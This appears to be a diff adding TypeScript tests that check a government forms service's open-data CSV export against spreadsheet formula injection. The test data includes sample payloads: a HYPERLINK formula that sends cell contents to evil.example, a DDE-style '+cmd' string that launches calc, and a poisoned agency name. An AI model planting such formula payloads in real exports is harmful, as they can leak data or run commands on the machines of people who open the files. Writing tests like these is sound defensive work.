@@ -7,7 +7,7 @@
  */
 import { test, describe, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { writeFileSync, mkdtempSync, rmSync } from 'node:fs';
+import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -19,6 +19,7 @@ import { checkAgainstOpenApi } from '../helpers/openapi.ts';
 import { createInvite } from '../../server/services/invites.ts';
 import { seedDemo, DEMO_AGENCY } from '../../server/seed.ts';
 import { createApp } from '../../server/app.ts';
+import { agencies } from '../../server/db/agencies.ts';
 import { belgradeMonthStart, csvField, monthBuckets, publishRows } from '../../server/services/statistics.ts';
 import { jmbgControlDigit } from '../../components/core/forms/validators.ts';
 import type { Problem } from '../../components/core/problem.ts';
@@ -359,6 +360,20 @@ describe('open data statistics', () => {
     assert.deepEqual(parseCsv(`${['a, b', 'say "hi"', 'two\r\nlines', ''].map(csvField).join(',')}\r\n`), [['a, b', 'say "hi"', 'two\r\nlines', '']]);
   });
 
+  test('text a spreadsheet would run as a formula gets a quote in front (OWASP CSV injection), still RFC 4180', () => {
+    for (const lead of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvField(`${lead}x`).replace(/"/g, ''), `'${lead}x`, JSON.stringify(lead));
+    assert.equal(csvField('=1+1'), "'=1+1");
+    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
+    assert.equal(csvField('=HYPERLINK("http://evil.example","x")'), '"\'=HYPERLINK(""http://evil.example"",""x"")"');
+    assert.equal(csvField('\rline'), '"\'\rline"');
+    assert.equal(csvField('-a, b'), '"\'-a, b"');
+    // Only at the start, and numbers are figures.
+    assert.equal(csvField('a=b'), 'a=b');
+    assert.equal(csvField(' =x'), ' =x');
+    assert.equal(csvField(-1.5), '-1.5');
+    assert.deepEqual(parseCsv(`${['=1+1', '=a,"b"', '-x'].map(csvField).join(',')}\r\n`), [["'=1+1", '\'=a,"b"', "'-x"]]);
+  });
+
   test('public and cacheable: no sign-in, Cache-Control, an ETag and 304', async () => {
     const res = await statistics();
     assert.equal(res.headers.get('cache-control'), 'public, max-age=300');
@@ -421,6 +436,43 @@ describe('open data statistics', () => {
       assert.match(retryAfter ?? '', /^\d+$/);
     } finally {
       await limited.close();
+    }
+  });
+});
+
+describe('formulas in names and titles', () => {
+  test('an agency name and a form title that start like formulas reach the CSV neutralised, in every language', async () => {
+    // The certificate of residence with titles an operator (or whoever edits the files) might write.
+    const formsDir = mkdtempSync(join(tmpdir(), 'overa-stats-forms-'));
+    const definition = JSON.parse(readFileSync(join(EXAMPLES, 'certificate-of-residence.json'), 'utf8')) as Record<string, unknown>;
+    delete definition.$schema;
+    const title = { 'sr-Latn': '=HYPERLINK("http://evil.example/?"&A1,"Uverenje")', en: '+cmd|\' /C calc\'!A0' };
+    writeFileSync(join(formsDir, 'certificate-of-residence.json'), JSON.stringify({ ...definition, title }));
+    const s = await startTestServer({ OVERA_FORMS_DIR: formsDir });
+    try {
+      await seedDemo(s.db, Date.now());
+      await agencies.upsert(s.db, { id: DEMO_AGENCY.id, name: '@SUM(1+1)*cmd', created_at: Date.now() });
+      const citizen = await registerAccount(s, NAMES[0]!);
+      const draft = await s.api<ApplicationWithHistory>('POST', '/api/v1/applications', { token: citizen.token, body: { formId: 'certificate-of-residence', formVersion: 1, data: residence(0) } });
+      assert.equal(draft.status, 201, JSON.stringify(draft.body));
+      assert.equal((await s.api('POST', `/api/v1/applications/${draft.body.id}/submit`, { token: citizen.token, body: {} })).status, 200);
+      const read = async (lang: string) => {
+        const res = await fetch(`${s.url}/api/v1/open-data/statistics.csv?lang=${lang}`);
+        assert.equal(res.status, 200);
+        const records = parseCsv(await res.text());
+        assert.equal(records.length, 2, JSON.stringify(records));
+        return records[1]!;
+      };
+      const latin = await read('sr-Latn');
+      assert.deepEqual(latin.slice(0, 4), ['novi-primer', "'@SUM(1+1)*cmd", 'certificate-of-residence', `'${title['sr-Latn']}`]);
+      assert.deepEqual((await read('en')).slice(1, 4), ["'@SUM(1+1)*cmd", 'certificate-of-residence', `'${title.en}`]);
+      for (const cell of await read('sr-Cyrl')) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
+      // The JSON carries the names as they are: it is data, not a spreadsheet.
+      const json = await s.api<OpenDataStatistics>('GET', '/api/v1/open-data/statistics.json');
+      assert.equal(json.body.agencies[0]!.name, '@SUM(1+1)*cmd');
+    } finally {
+      await s.close();
+      rmSync(formsDir, { recursive: true, force: true });
     }
   });
 });
